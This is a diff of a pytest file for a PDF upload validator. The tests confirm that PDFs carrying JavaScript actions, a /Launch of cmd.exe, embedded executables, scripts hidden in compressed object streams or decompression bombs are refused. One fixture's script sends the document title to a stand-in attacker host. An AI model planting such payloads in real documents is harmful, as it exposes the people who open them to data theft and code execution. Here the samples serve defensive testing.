@@ -20,11 +20,19 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 from pypdf import PdfWriter
+from pypdf.actions import JavaScript, PageTrigger
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+)
 
 from tinhso.core import uploads
 from tinhso.core.errors import DomainError
 from tinhso.core.uploads import check_upload, safe_filename
-from tinhso.testing.factories import jpeg_bytes, minimal_pdf
+from tinhso.testing.factories import jpeg_bytes, minimal_pdf, packed_pdf
 
 PDF = minimal_pdf()
 
@@ -130,7 +138,7 @@ def test_real_type_under_the_wrong_extension_is_refused():
 )
 def test_pdfs_with_active_content_are_refused(snippet, found):
     with pytest.raises(DomainError) as excinfo:
-        check_upload(SimpleUploadedFile("to-khai.pdf", minimal_pdf(snippet)))
+        check_upload(SimpleUploadedFile("to-khai.pdf", minimal_pdf(catalog=snippet)))
     assert excinfo.value.code == "pdf_active_content"
     assert excinfo.value.details == {"found": found}
 
@@ -317,3 +325,115 @@ def jpeg_claiming(width: int, height: int) -> bytes:
 )
 def test_images_above_the_caps_are_refused_from_their_header(name, data):
     assert refused(name, data) == "image_too_large"
+
+
+# --- active content in PDFs (issue 17, finding 7) -----------------------------------------------
+# JavaScript inside a compressed object stream passed the byte scan. Now the PDF is parsed and
+# every object in it inspected (object streams included); a PDF that cannot be parsed is refused.
+
+JS = b"<</S/JavaScript/JS(app.alert(1))>>"
+LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]"
+
+
+def active_content(data: bytes) -> str:
+    with pytest.raises(DomainError) as excinfo:
+        check_upload(SimpleUploadedFile("to-khai.pdf", data))
+    assert excinfo.value.code == "pdf_active_content", excinfo.value.code
+    return excinfo.value.details["found"]
+
+
+@pytest.mark.parametrize(
+    ("extra", "catalog", "page", "found"),
+    [
+        ((JS,), b"/OpenAction 4 0 R", b"", "javascript"),  # the red team's file
+        ((b"<</Names[(a) 5 0 R]>>", JS), b"/Names<</JavaScript 4 0 R>>", b"", "javascript"),
+        ((JS,), b"", b"/AA<</O 4 0 R>>", "javascript"),  # when the page opens
+        ((LINK + b"/AA<</E 5 0 R>>>>", JS), b"", b"/Annots[4 0 R]", "javascript"),
+        ((b"<</S/Launch/F(cmd.exe)>>",), b"/OpenAction 4 0 R", b"", "launch"),
+        ((LINK + b"/A<</S/GoToR/F(x.pdf)/D[0/Fit]>>>>",), b"", b"/Annots[4 0 R]", "launch"),
+        ((b"<</Names[(a.exe) 5 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"),
+         b"/Names<</EmbeddedFiles 4 0 R>>", b"", "embedded_file"),
+        ((b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS(a.exe)>>",), b"",
+         b"/Annots[4 0 R]", "embedded_file"),
+    ],
+    ids=["open-action", "names-tree", "page-open", "annotation", "launch", "remote-pdf",
+         "embedded-files", "attachment-annotation"],
+)  # fmt: skip
+def test_active_content_hidden_in_a_compressed_object_stream_is_refused(
+    extra, catalog, page, found
+):
+    data = packed_pdf(*extra, catalog=catalog, page=page)
+    assert not set(uploads._pdf_names(data)) & set(uploads.PDF_ACTIVE_NAMES)  # passed the scan
+    assert active_content(data) == found
+
+
+def written_pdf(build) -> bytes:
+    """A PDF written by pypdf (compressed streams) after ``build(writer)``."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    build(writer)
+    for page in writer.pages:
+        page.compress_content_streams()
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def script_in_compressed_stream(writer: PdfWriter) -> None:
+    """A link whose /AA runs a script kept in a Flate-compressed stream."""
+    script = DecodedStreamObject()
+    script.set_data(b"app.launchURL('http://attacker.example/'+this.info.Title)")
+    action = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): writer._add_object(script.flate_encode()),
+        }
+    )
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+            NameObject("/AA"): DictionaryObject({NameObject("/E"): writer._add_object(action)}),
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+
+@pytest.mark.parametrize(
+    ("build", "found"),
+    [
+        (lambda w: w.add_open_action(JavaScript("app.alert(1)")), "javascript"),
+        (lambda w: w.pages[0].add_action(PageTrigger.OPEN, JavaScript("x()")), "javascript"),
+        (script_in_compressed_stream, "javascript"),
+        (lambda w: w.add_attachment("giay-to.exe", b"MZ" + b"\0" * 4096), "embedded_file"),
+    ],
+    ids=["open-action", "page-action", "compressed-script", "attachment"],
+)
+def test_active_content_written_by_a_pdf_library_is_refused(build, found):
+    assert active_content(written_pdf(build)) == found
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        packed_pdf(),
+        # opens at page 1, links to a web page: ordinary, not active
+        minimal_pdf(LINK + b"/A<</S/URI/URI(https://dichvucong.gov.vn)>>>>",
+                    catalog=b"/OpenAction[3 0 R/Fit]", page=b"/Annots[4 0 R]"),
+        written_pdf(lambda w: w.add_metadata({"/Title": "Tờ khai /JavaScript"})),
+    ],
+    ids=["packed", "links", "written"],
+)  # fmt: skip
+def test_ordinary_pdfs_are_accepted_as_they_are(data):
+    checked = check_upload(SimpleUploadedFile("to-khai.pdf", data))
+    assert checked.content.read() == data
+
+
+def test_pdf_decompression_bomb_is_refused(monkeypatch):
+    bomb = packed_pdf(b"(" + b"0" * (uploads.PDF_MAX_STREAM_BYTES + 1) + b")")
+    assert len(bomb) < 100_000
+    assert refused("to-khai.pdf", bomb) == "pdf_too_complex"
+    # many object streams: their total is bounded too
+    monkeypatch.setattr(uploads, "PDF_MAX_OBJECT_STREAM_BYTES", 1000)
+    assert refused("to-khai.pdf", packed_pdf(b"(" + b"0" * 1000 + b")")) == "pdf_too_complex"
